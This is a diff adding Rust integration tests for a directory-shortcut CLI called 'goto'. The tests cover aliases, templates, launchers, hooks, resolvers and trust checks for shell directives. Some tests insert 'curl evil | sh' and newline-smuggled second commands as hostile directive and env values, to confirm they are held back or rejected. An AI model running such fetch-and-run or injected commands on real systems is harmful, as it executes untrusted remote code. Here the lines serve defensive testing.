@@ -5,6 +5,7 @@ use predicates::prelude::PredicateBooleanExt;
 use predicates::str::contains;
 use serde_json::Value;
 use std::fs;
+use std::os::unix::fs::PermissionsExt;
 use std::path::PathBuf;
 use tempfile::TempDir;
 
@@ -28,6 +29,7 @@ fn BuildCommand(temp: &TempDir) -> Command {
     cmd.env("NO_COLOR", "1");
     cmd.env("GOTO_SKIP_LEGACY_CHECK", "1");
     cmd.env("GOTO_ASSUME_YES", "1");
+    cmd.env_remove("XDG_STATE_HOME");
 
     cmd
 }
@@ -163,6 +165,2452 @@ fn JumpWithoutCreateFailsWhenFlagSet() {
         .stderr(contains("does not exist"));
 }
 
+#[test]
+fn JumpExpandsAbbreviatedComponents() {
+    let temp = TempDir::new().unwrap();
+
+    let proj = MakeDir(&temp, "proj");
+    fs::create_dir_all(proj.join("src/components/ui")).unwrap();
+    fs::create_dir_all(proj.join("src/config")).unwrap();
+    fs::create_dir_all(proj.join("Scripts")).unwrap();
+    fs::create_dir_all(proj.join("s")).unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", proj.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let canonical = proj.canonicalize().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj/sr/comp/U"])
+        .assert()
+        .success()
+        .stdout(contains(
+            canonical.join("src/components/ui").to_str().unwrap(),
+        ));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj/s"])
+        .assert()
+        .success()
+        .stdout(contains(canonical.join("s").to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj/src/c"])
+        .assert()
+        .code(3)
+        .stderr(contains("ambiguous"))
+        .stderr(contains("components, config"));
+}
+
+#[test]
+fn JumpFallsBackToFilesystemPaths() {
+    let temp = TempDir::new().unwrap();
+
+    let workspace = MakeDir(&temp, "workspace");
+    let sibling = MakeDir(&temp, "sibling");
+
+    BuildCommand(&temp)
+        .current_dir(&workspace)
+        .arg("../sibling")
+        .assert()
+        .success()
+        .stdout(contains("Changed directory"));
+
+    BuildCommand(&temp)
+        .arg(sibling.to_str().unwrap())
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .current_dir(&workspace)
+        .args(["--print-path", "../sibling"])
+        .assert()
+        .success()
+        .stdout(contains(sibling.canonicalize().unwrap().to_str().unwrap()));
+
+    let output = BuildCommand(&temp)
+        .args(["--list", "--visited", "--json"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let parsed: Value = serde_json::from_slice(&output).unwrap();
+
+    assert_eq!(parsed[0]["visits"], 2);
+
+    BuildCommand(&temp)
+        .args(["--add", sibling.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--list", "--visited"])
+        .assert()
+        .success()
+        .stdout(contains("No unsaved directories visited yet."));
+
+    BuildCommand(&temp)
+        .arg("missing-dir")
+        .assert()
+        .failure()
+        .stderr(contains("not found"));
+}
+
+#[test]
+fn VisitLogIsSortedAndAgesOutStaleDirectories() {
+    let temp = TempDir::new().unwrap();
+
+    let beta = MakeDir(&temp, "beta");
+    let alpha = MakeDir(&temp, "alpha");
+
+    let visits = temp.path().join(".goto/to_dirs_visits");
+
+    fs::create_dir_all(visits.parent().unwrap()).unwrap();
+    fs::write(&visits, "/long/gone=40,1\n").unwrap();
+
+    for dir in [&beta, &alpha, &beta] {
+        BuildCommand(&temp)
+            .arg(dir.to_str().unwrap())
+            .assert()
+            .success();
+    }
+
+    BuildCommand(&temp)
+        .env("GOTO_ASSUME_YES", "0")
+        .args(["--suggest", "--json"])
+        .assert()
+        .success();
+
+    let stored = fs::read_to_string(&visits).unwrap();
+
+    assert!(stored.contains("beta=2,"));
+
+    let paths: Vec<&str> = stored
+        .lines()
+        .filter_map(|line| line.rsplit_once('=').map(|(path, _)| path))
+        .collect();
+
+    let expected = [alpha.canonicalize().unwrap(), beta.canonicalize().unwrap()];
+
+    assert_eq!(
+        paths,
+        expected
+            .iter()
+            .map(|p| p.to_str().unwrap())
+            .collect::<Vec<_>>()
+    );
+}
+
+#[test]
+fn AliasesFollowRenamesAndListUnderPrimary() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+    fs::create_dir_all(project.join("src")).unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--alias", "p", "proj"])
+        .assert()
+        .success()
+        .stdout(contains("Aliased").and(contains("proj")));
+
+    BuildCommand(&temp)
+        .args(["--rename", "proj", "project"])
+        .assert()
+        .success();
+
+    let canonical = project.canonicalize().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "p/src"])
+        .assert()
+        .success()
+        .stdout(contains(canonical.join("src").to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .arg("--list")
+        .assert()
+        .success()
+        .stdout(contains("project").and(contains("(aliases: p)")));
+
+    BuildCommand(&temp)
+        .args(["--rm", "project"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "p"])
+        .assert()
+        .failure();
+}
+
+#[test]
+fn AnchorsAndDefaultSubpathResolve() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+    fs::create_dir_all(project.join("src")).unwrap();
+    fs::create_dir_all(project.join("tests/integration/api")).unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--anchor", "proj", "t", "tests/integration"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--default-subpath", "proj", "src"])
+        .assert()
+        .success();
+
+    let canonical = project.canonicalize().unwrap();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj:t/api"])
+        .assert()
+        .success()
+        .stdout(contains(
+            canonical.join("tests/integration/api").to_str().unwrap(),
+        ));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj"])
+        .assert()
+        .success()
+        .stdout(contains(canonical.join("src").to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj/"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", canonical.display()));
+
+    BuildCommand(&temp)
+        .args([
+            "--__complete-mode",
+            "targets",
+            "--__complete-input",
+            "proj:",
+        ])
+        .assert()
+        .success()
+        .stdout(contains("proj:t"));
+
+    BuildCommand(&temp)
+        .arg("--list")
+        .assert()
+        .success()
+        .stdout(contains("proj:t").and(contains("tests/integration")));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "proj:x"])
+        .assert()
+        .code(3)
+        .stderr(contains("Anchors: t"));
+
+    BuildCommand(&temp)
+        .args(["--anchor", "proj", "x"])
+        .assert()
+        .code(3)
+        .stderr(contains("has no anchor 'x'"));
+}
+
+#[test]
+fn TemplatedShortcutsExpandAtJumpTime() {
+    let temp = TempDir::new().unwrap();
+
+    let scratch = MakeDir(&temp, "scratch");
+
+    BuildCommand(&temp)
+        .args(["--add", "scratch", "$SCRATCH/{user}"])
+        .assert()
+        .success();
+
+    let configContents = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
+
+    assert!(configContents.contains("scratch=$SCRATCH/{user}"));
+
+    BuildCommand(&temp)
+        .env("SCRATCH", &scratch)
+        .env("USER", "alice")
+        .args(["--print-path", "scratch/notes"])
+        .assert()
+        .success()
+        .stdout(contains(scratch.join("alice/notes").to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .env("SCRATCH", &scratch)
+        .env("USER", "alice")
+        .arg("--list")
+        .assert()
+        .success()
+        .stdout(
+            contains(scratch.join("alice").to_str().unwrap())
+                .and(contains("(template: $SCRATCH/{user})")),
+        );
+
+    BuildCommand(&temp)
+        .env_remove("SCRATCH")
+        .args(["--print-path", "scratch"])
+        .assert()
+        .code(3)
+        .stderr(contains("'SCRATCH' is not set"));
+
+    BuildCommand(&temp)
+        .args(["--add", "bad", "~/notes/{nope}"])
+        .assert()
+        .code(2)
+        .stderr(contains("Unknown template placeholder"));
+
+    BuildCommand(&temp)
+        .args(["--add", "bad", "~/notes/{date"])
+        .assert()
+        .code(2)
+        .stderr(contains("Unclosed '{'"));
+}
+
+#[test]
+fn ExistingDirectoryWithDollarIsNotATemplate() {
+    let temp = TempDir::new().unwrap();
+
+    let literal = MakeDir(&temp, "a$b");
+
+    BuildCommand(&temp)
+        .args(["--add", "odd", literal.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "odd"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", literal.canonicalize().unwrap().display()));
+}
+
+#[test]
+fn DateTemplatesUseLocalTime() {
+    let temp = TempDir::new().unwrap();
+
+    let base = MakeDir(&temp, "base");
+
+    BuildCommand(&temp)
+        .args([
+            "--add",
+            "today",
+            &format!("{}/{{date:%Y-%m-%d}}", base.display()),
+        ])
+        .assert()
+        .success();
+
+    for zone in ["XYZ-14", "XYZ+12"] {
+        let expected = std::process::Command::new("date")
+            .env("TZ", zone)
+            .arg("+%Y-%m-%d")
+            .output()
+            .unwrap();
+
+        let expected = String::from_utf8(expected.stdout).unwrap();
+
+        BuildCommand(&temp)
+            .env("TZ", zone)
+            .args(["--print-path", "today"])
+            .assert()
+            .success()
+            .stdout(contains(expected.trim()));
+    }
+}
+
+#[test]
+fn PortablePathsStoreHomeAndRootForms() {
+    let temp = TempDir::new().unwrap();
+
+    let code = MakeDir(&temp, "code").canonicalize().unwrap();
+    let project = MakeDir(&temp, "code/project");
+    let notes = MakeDir(&temp, "notes");
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "portable_roots=CODE\n",
+    )
+    .unwrap();
+
+    fs::write(
+        temp.path().join(".goto/to_dirs"),
+        format!("notes={}\n", notes.canonicalize().unwrap().display()),
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .env("CODE", &code)
+        .arg("--migrate-paths")
+        .assert()
+        .success()
+        .stdout(contains("notes").and(contains("~/notes")));
+
+    BuildCommand(&temp)
+        .env("CODE", &code)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let config = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
+
+    assert!(config.contains("notes=~/notes\n"));
+    assert!(config.contains("proj=$CODE/project\n"));
+
+    BuildCommand(&temp)
+        .env("CODE", &code)
+        .args(["--list", "--portable"])
+        .assert()
+        .success()
+        .stdout(contains("$CODE/project"));
+
+    let moved = MakeDir(&temp, "elsewhere");
+
+    BuildCommand(&temp)
+        .env("CODE", &moved)
+        .args(["--print-path", "proj"])
+        .assert()
+        .success()
+        .stdout(contains(moved.join("project").to_str().unwrap()));
+}
+
+#[test]
+fn PortableFormEscapesDollarAndBraceInLiteralPaths() {
+    let temp = TempDir::new().unwrap();
+
+    let odd = MakeDir(&temp, "a$b/{c}");
+
+    BuildCommand(&temp)
+        .args(["--add", "odd", odd.to_str().unwrap()])
+        .assert()
+        .success();
+
+    let config = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
+
+    assert!(config.contains("odd=~/a\\$b/\\{c}\n"));
+
+    fs::remove_dir_all(temp.path().join("a$b")).unwrap();
+
+    let output = BuildCommand(&temp)
+        .args(["--list", "--json"])
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+
+    let parsed: Value = serde_json::from_slice(&output).unwrap();
+
+    let entry = &parsed[0];
+
+    assert_eq!(entry["path"], temp.path().join("a$b/{c}").to_str().unwrap());
+    assert!(entry["template"].is_null());
+}
+
+#[test]
+fn HostOverridesApplyOnlyToMatchingHost() {
+    let temp = TempDir::new().unwrap();
+
+    let shared = MakeDir(&temp, "shared").canonicalize().unwrap();
+    let laptop = MakeDir(&temp, "laptop").canonicalize().unwrap();
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "laptop")
+        .args(["--add", "proj", shared.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "laptop")
+        .args(["--add", "proj", laptop.to_str().unwrap(), "--host-only"])
+        .assert()
+        .success();
+
+    let config = fs::read_to_string(temp.path().join(".goto/to_dirs")).unwrap();
+
+    assert!(config.contains("proj=~/shared\n\n[host:laptop]\nproj=~/laptop\n"));
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "laptop")
+        .args(["--print-path", "proj"])
+        .assert()
+        .success()
+        .stdout(contains(laptop.to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "ci")
+        .args(["--print-path", "proj"])
+        .assert()
+        .success()
+        .stdout(contains(shared.to_str().unwrap()));
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "ci")
+        .args(["--list", "--hosts"])
+        .assert()
+        .success()
+        .stdout(contains("[host: laptop]").and(contains("~/laptop")));
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "laptop")
+        .args(["--add", "proj", shared.to_str().unwrap(), "--force"])
+        .assert()
+        .failure()
+        .stderr(contains("overridden for host 'laptop'"));
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "laptop")
+        .args(["--rm", "proj"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_HOST", "laptop")
+        .args(["--print-path", "proj"])
+        .assert()
+        .success()
+        .stdout(contains(shared.to_str().unwrap()));
+}
+
+#[test]
+fn FileShortcutsOpenInEditor() {
+    let temp = TempDir::new().unwrap();
+
+    let infra = MakeDir(&temp, "infra").canonicalize().unwrap();
+    let vars = infra.join("terraform.tfvars");
+    fs::write(&vars, "region = \"us-east-1\"\n").unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "tfvars", vars.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "infra", infra.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--print-path", "tfvars"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", vars.display()));
+
+    BuildCommand(&temp)
+        .env_remove("VISUAL")
+        .env("EDITOR", "echo edited")
+        .arg("tfvars")
+        .assert()
+        .success()
+        .stdout(contains(format!("edited {}", vars.display())));
+
+    BuildCommand(&temp)
+        .env("VISUAL", "echo visual")
+        .env("EDITOR", "echo edited")
+        .arg("infra/terraform.tfvars")
+        .assert()
+        .success()
+        .stdout(contains(format!("visual {}", vars.display())));
+
+    BuildCommand(&temp)
+        .args(["--list", "tfvars"])
+        .assert()
+        .success()
+        .stdout(contains("(file)"));
+
+    BuildCommand(&temp)
+        .args(["--print-path", "tfvars/nested"])
+        .assert()
+        .code(4)
+        .stderr(contains("is a file"));
+}
+
+#[test]
+fn OpenRunsConfiguredLaunchers() {
+    let temp = TempDir::new().unwrap();
+
+    let bin = MakeDir(&temp, "bin");
+    let log = temp.path().join("launch.log");
+
+    for name in ["zed", "cursor"] {
+        let script = bin.join(name);
+
+        fs::write(
+            &script,
+            format!("#!/bin/sh\necho \"{name} $*\" >> '{}'\n", log.display()),
+        )
+        .unwrap();
+
+        let mut permissions = fs::metadata(&script).unwrap().permissions();
+        permissions.set_mode(0o755);
+        fs::set_permissions(&script, permissions).unwrap();
+    }
+
+    let searchPath = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    let project = MakeDir(&temp, "my project").canonicalize().unwrap();
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "launcher.zed=zed --wait \"{path}\"\nlauncher.term=cursor -n {name}\ndefault_launcher=term\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["proj", "--open"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--launcher", "proj", "zed"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["proj", "--open"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["proj", "-u"])
+        .assert()
+        .success();
+
+    let launches = fs::read_to_string(&log).unwrap();
+
+    let expected = format!(
+        "cursor -n my project {0}\nzed --wait {0}\ncursor {0}\n",
+        project.display()
+    );
+
+    assert_eq!(launches, expected);
+}
+
+#[test]
+fn OpenRejectsUnknownLauncher() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "launcher.zed=zed \"{path}\"\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["proj", "--open=vim"])
+        .assert()
+        .code(2)
+        .stderr(contains("Unknown launcher 'vim'"));
+
+    BuildCommand(&temp)
+        .args(["--launcher", "proj", "vim"])
+        .assert()
+        .code(2)
+        .stderr(contains("Unknown launcher 'vim'"));
+}
+
+#[test]
+fn EnteringAndLeavingShortcutEmitsDirectives() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+    let other = MakeDir(&temp, "other");
+    let directives = temp.path().join("directives.sh");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--add", "other", other.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--env", "proj", "KUBECONFIG", "/tmp/kube config"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--on-enter", "proj", "nvm use"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--on-leave", "proj", "deactivate"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_DIRECTIVE_FILE", &directives)
+        .arg("proj")
+        .assert()
+        .success();
+
+    assert_eq!(
+        fs::read_to_string(&directives).unwrap(),
+        "export KUBECONFIG='/tmp/kube config'\nexport GOTO_ACTIVE_SHORTCUT='proj'\nnvm use\n"
+    );
+
+    BuildCommand(&temp)
+        .env("GOTO_DIRECTIVE_FILE", &directives)
+        .env("GOTO_ACTIVE_SHORTCUT", "proj")
+        .arg("other")
+        .assert()
+        .success();
+
+    assert_eq!(
+        fs::read_to_string(&directives).unwrap(),
+        "deactivate\nunset KUBECONFIG\nunset GOTO_ACTIVE_SHORTCUT\n"
+    );
+}
+
+#[test]
+fn EditedDirectivesWaitForTrust() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+    let directives = temp.path().join("directives.sh");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--on-enter", "proj", "nvm use"])
+        .assert()
+        .success();
+
+    let propsPath = temp.path().join(".goto/to_dirs_props");
+    let props = fs::read_to_string(&propsPath).unwrap();
+    fs::write(&propsPath, props.replace("nvm use", "curl evil | sh")).unwrap();
+
+    BuildCommand(&temp)
+        .env("GOTO_DIRECTIVE_FILE", &directives)
+        .arg("proj")
+        .assert()
+        .success()
+        .stderr(contains("to --trust proj"));
+
+    assert!(!directives.exists());
+
+    BuildCommand(&temp)
+        .args(["--list", "proj"])
+        .assert()
+        .success()
+        .stdout(contains("curl evil | sh").and(contains("untrusted")));
+
+    BuildCommand(&temp)
+        .args(["--trust", "proj"])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .env("GOTO_DIRECTIVE_FILE", &directives)
+        .arg("proj")
+        .assert()
+        .success();
+
+    assert!(
+        fs::read_to_string(&directives)
+            .unwrap()
+            .contains("curl evil | sh")
+    );
+}
+
+#[test]
+fn SettingOneDirectiveDoesNotTrustImportedOnes() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+    let directives = temp.path().join("directives.sh");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    fs::write(
+        temp.path().join(".goto/to_dirs_props"),
+        "proj:on_enter=curl evil | sh\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .args(["--env", "proj", "STAGE", "dev"])
+        .assert()
+        .success();
+
+    assert!(temp.path().join(".local/state/goto/trust").exists());
+    assert!(!temp.path().join(".goto/to_dirs_trust").exists());
+
+    BuildCommand(&temp)
+        .env("GOTO_DIRECTIVE_FILE", &directives)
+        .arg("proj")
+        .assert()
+        .success()
+        .stderr(contains("to --trust proj"));
+
+    assert!(!directives.exists());
+}
+
+#[test]
+fn MultiLineHooksAndEnvValuesAreRejected() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project");
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success();
+
+    BuildCommand(&temp)
+        .args(["--on-enter", "proj", "nvm use\ncurl evil | sh"])
+        .assert()
+        .code(2)
+        .stderr(contains("must be a single line"));
+
+    BuildCommand(&temp)
+        .args(["--env", "proj", "STAGE", "dev\nexport PATH=/tmp"])
+        .assert()
+        .code(2)
+        .stderr(contains("must be a single line"));
+
+    let props = fs::read_to_string(temp.path().join(".goto/to_dirs_props")).unwrap_or_default();
+
+    assert!(!props.contains("evil") && !props.contains("PATH"));
+}
+
+#[test]
+fn HooksReceiveJsonPayloads() {
+    let temp = TempDir::new().unwrap();
+
+    let project = MakeDir(&temp, "project").canonicalize().unwrap();
+    let hooks = MakeDir(&temp, ".goto/hooks");
+    let log = temp.path().join("hooks.log");
+
+    for (name, status) in [("on-add", 0), ("on-jump", 0), ("on-remove", 3)] {
+        let script = hooks.join(name);
+
+        fs::write(
+            &script,
+            format!(
+                "#!/bin/sh
+cat >> '{}'
+echo 'hook noise' >&2
+exit {status}
+",
+                log.display()
+            ),
+        )
+        .unwrap();
+
+        let mut permissions = fs::metadata(&script).unwrap().permissions();
+        permissions.set_mode(0o755);
+        fs::set_permissions(&script, permissions).unwrap();
+    }
+
+    BuildCommand(&temp)
+        .args(["--add", "proj", project.to_str().unwrap()])
+        .assert()
+        .success()
+        .stderr(contains("hook noise").not());
+
+    BuildCommand(&temp).arg("proj").assert().success();
+
+    BuildCommand(&temp)
+        .args(["--rm", "proj"])
+        .assert()
+        .success()
+        .stderr(contains("on-remove").and(contains("failed")));
+
+    BuildCommand(&temp)
+        .args(["--list", "proj"])
+        .assert()
+        .success()
+        .stdout(contains("No shortcuts"));
+
+    let events: Vec<Value> = fs::read_to_string(&log)
+        .unwrap()
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+
+    let names: Vec<&str> = events
+        .iter()
+        .map(|e| e["event"].as_str().unwrap())
+        .collect();
+
+    assert_eq!(names, ["add", "jump", "remove"]);
+
+    assert_eq!(events[0]["keyword"], "proj");
+    assert_eq!(events[0]["path"], project.to_str().unwrap());
+    assert_eq!(events[1]["path"], project.to_str().unwrap());
+    assert_eq!(events[2]["keyword"], "proj");
+}
+
+#[test]
+fn ExpiredShortcutsFireOnExpireOnlyFromWritingCommands() {
+    let temp = TempDir::new().unwrap();
+
+    let stale = MakeDir(&temp, "stale").canonicalize().unwrap();
+    let hooks = MakeDir(&temp, ".goto/hooks");
+    let log = temp.path().join("hooks.log");
+    let script = hooks.join("on-expire");
+
+    fs::write(&script, format!("#!/bin/sh\ncat >> '{}'\n", log.display())).unwrap();
+
+    let mut permissions = fs::metadata(&script).unwrap().permissions();
+    permissions.set_mode(0o755);
+    fs::set_permissions(&script, permissions).unwrap();
+
+    fs::write(
+        temp.path().join(".goto/to_dirs"),
+        format!("stale={}\n", stale.display()),
+    )
+    .unwrap();
+
+    fs::write(temp.path().join(".goto/to_dirs_meta"), "stale=1\n").unwrap();
+
+    BuildCommand(&temp)
+        .arg("--list")
+        .assert()
+        .success()
+        .stdout(contains("stale").not());
+
+    BuildCommand(&temp)
+        .args(["--which", "stale"])
+        .assert()
+        .failure();
+
+    assert!(!log.exists());
+    assert!(
+        fs::read_to_string(temp.path().join(".goto/to_dirs"))
+            .unwrap()
+            .contains("stale=")
+    );
+
+    BuildCommand(&temp)
+        .args(["--config", "sort_order", "alpha"])
+        .assert()
+        .success();
+
+    assert!(
+        !fs::read_to_string(temp.path().join(".goto/to_dirs"))
+            .unwrap()
+            .contains("stale=")
+    );
+
+    let event: Value = serde_json::from_str(fs::read_to_string(&log).unwrap().trim()).unwrap();
+
+    assert_eq!(event["event"], "expire");
+    assert_eq!(event["keyword"], "stale");
+    assert_eq!(event["expired_at"], 1);
+}
+
+#[test]
+fn ResolverPluginsHandleUnknownTargets() {
+    let temp = TempDir::new().unwrap();
+
+    let bin = MakeDir(&temp, "bin");
+    let worktrees = MakeDir(&temp, "worktrees").canonicalize().unwrap();
+    let queries = temp.path().join("queries.log");
+
+    let scripts = [
+        (
+            "goto-resolve-ticket",
+            format!(
+                "#!/bin/sh\necho \"$1\" >> '{}'\ncase \"$1\" in\n  ABC-*) echo '{{\"candidates\": [{{\"path\": \"{}/'\"$1\"'\", \"create\": true}}]}}' ;;\n  *) exit 1 ;;\nesac\n",
+                queries.display(),
+                worktrees.display()
+            ),
+        ),
+        ("goto-resolve-slow", "#!/bin/sh\nexec sleep 5\n".to_string()),
+    ];
+
+    for (name, body) in scripts {
+        let script = bin.join(name);
+
+        fs::write(&script, body).unwrap();
+
+        let mut permissions = fs::metadata(&script).unwrap().permissions();
+        permissions.set_mode(0o755);
+        fs::set_permissions(&script, permissions).unwrap();
+    }
+
+    let searchPath = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "resolver_timeout_ms=200\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .arg("--resolvers")
+        .assert()
+        .success()
+        .stdout(
+            contains("slow")
+                .and(contains("ticket"))
+                .and(contains("200ms")),
+        );
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .arg("ABC-123")
+        .assert()
+        .success()
+        .stderr(contains("resolver 'slow' failed"));
+
+    assert!(worktrees.join("ABC-123").is_dir());
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "resolvers=ticket\nresolver_timeout_ms=500\n",
+    )
+    .unwrap();
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["--print-path", "ABC-7"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", worktrees.join("ABC-7").display()))
+        .stderr("");
+
+    let destFile = temp.path().join("dest");
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .env("GOTO_DEST_FILE", &destFile)
+        .arg("ABC-8")
+        .assert()
+        .success();
+
+    assert_eq!(
+        fs::read_to_string(&destFile).unwrap(),
+        worktrees.join("ABC-8").to_str().unwrap()
+    );
+    assert_eq!(
+        fs::read_to_string(&queries).unwrap(),
+        "ABC-123\nABC-7\nABC-8\n"
+    );
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["--resolvers", "--json"])
+        .assert()
+        .success()
+        .stdout(contains("\"name\": \"ticket\"").and(contains("slow").not()));
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .arg("nothing-here")
+        .assert()
+        .code(3)
+        .stderr(contains("not found"));
+}
+
+#[test]
+fn ResolverCandidateMustExistUnlessItAsksToCreate() {
+    let temp = TempDir::new().unwrap();
+
+    let bin = MakeDir(&temp, "bin");
+    let worktrees = MakeDir(&temp, "worktrees").canonicalize().unwrap();
+    let script = bin.join("goto-resolve-ticket");
+
+    fs::write(
+        &script,
+        format!("#!/bin/sh\necho '{}/'\"$1\"\n", worktrees.display()),
+    )
+    .unwrap();
+
+    let mut permissions = fs::metadata(&script).unwrap().permissions();
+    permissions.set_mode(0o755);
+    fs::set_permissions(&script, permissions).unwrap();
+
+    let searchPath = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .arg("XYZ-9")
+        .assert()
+        .code(3)
+        .stderr(contains("not found"));
+
+    assert!(!worktrees.join("XYZ-9").exists());
+
+    MakeDir(&temp, "worktrees/XYZ-9");
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["--print-path", "XYZ-9"])
+        .assert()
+        .success()
+        .stdout(format!("{}\n", worktrees.join("XYZ-9").display()));
+}
+
+#[test]
+fn ResolverTimeoutIgnoresLingeringChildren() {
+    let temp = TempDir::new().unwrap();
+
+    let bin = MakeDir(&temp, "bin");
+    let worktrees = MakeDir(&temp, "worktrees").canonicalize().unwrap();
+    let script = bin.join("goto-resolve-ticket");
+
+    fs::write(
+        &script,
+        format!("#!/bin/sh\nsleep 5 &\necho '{}'\n", worktrees.display()),
+    )
+    .unwrap();
+
+    let mut permissions = fs::metadata(&script).unwrap().permissions();
+    permissions.set_mode(0o755);
+    fs::set_permissions(&script, permissions).unwrap();
+
+    let searchPath = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    MakeDir(&temp, ".goto");
+
+    fs::write(
+        temp.path().join(".goto/to_zsh_config"),
+        "resolver_timeout_ms=500\n",
+    )
+    .unwrap();
+
+    let started = std::time::Instant::now();
+
+    BuildCommand(&temp)
+        .env("PATH", &searchPath)
+        .args(["--print-path", "BG-1"])
+        .assert()
+        .failure()
+        .stderr(contains("resolver 'ticket' failed: timed out"));
+
+    assert!(started.elapsed() < std::time::Duration::from_secs(4));
+}
+
+#[test]
